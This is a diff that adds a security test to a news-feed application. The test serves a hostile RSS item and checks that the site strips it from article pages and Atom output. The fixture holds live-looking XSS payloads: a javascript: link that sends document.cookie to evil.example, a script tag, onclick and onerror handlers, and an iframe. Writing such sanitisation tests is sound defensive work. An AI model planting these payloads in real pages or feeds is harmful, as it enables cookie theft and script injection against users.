@@ -106,3 +106,31 @@ def test_hidden_story_leaves_the_feed(live: LiveServer) -> None:
     assert answer.status_code == 201
     assert target in before and target not in after and len(after) == len(before) - 1
     assert (bad.status_code, nothing.status_code, missing.status_code) == (422, 422, 404)
+
+
+HOSTILE = (
+    b'<?xml version="1.0"?><rss version="2.0"><channel><title>Hostile Herald</title>'
+    b"<item><guid>x1</guid><title>Council rejects the harbour plan</title>"
+    b"<link>javascript:fetch('//evil.example/?'+document.cookie)</link>"
+    b"<description><![CDATA[<p>The council voted against the plan by nine votes to four.</p>"
+    b"<script>alert(1)</script><p onclick=\"alert(2)\">Members asked for a new survey of "
+    b"the quay walls.</p><img src=x onerror=alert(3)><a href=\"javascript:alert(4)\">x</a>"
+    b"<iframe src=\"https://evil.example/\"></iframe>]]></description></item>"
+    b"</channel></rss>"
+)
+
+
+def test_hostile_feed_content_is_neutralised(live: LiveServer, site: LoopbackSite) -> None:
+    site.routes["/hostile.xml"] = Route(HOSTILE, headers={"Content-Type": "application/rss+xml"})
+    with live.client() as http:
+        added = http.post("/api/v1/sources", json={"url": site.url("/hostile.xml")})
+        assert added.status_code == 201
+        story = next(i for i in http.get("/api/v1/feed", params={"limit": 200}).json()["items"]
+                     if i["lead"]["title"] == "Council rejects the harbour plan")
+        page = http.get(f"/articles/{story['lead']['id']}").text
+        atom_link = re.search(r'href="(/feeds/[^"]+\.atom)"', http.get("/").text)
+        atom = http.get(atom_link.group(1)).text if atom_link else ""
+    assert "nine votes to four" in page and "new survey" in page
+    for bad in ("<script", "onclick", "onerror", "javascript:", "<iframe", "evil.example"):
+        assert bad not in page, bad
+        assert bad not in atom, bad
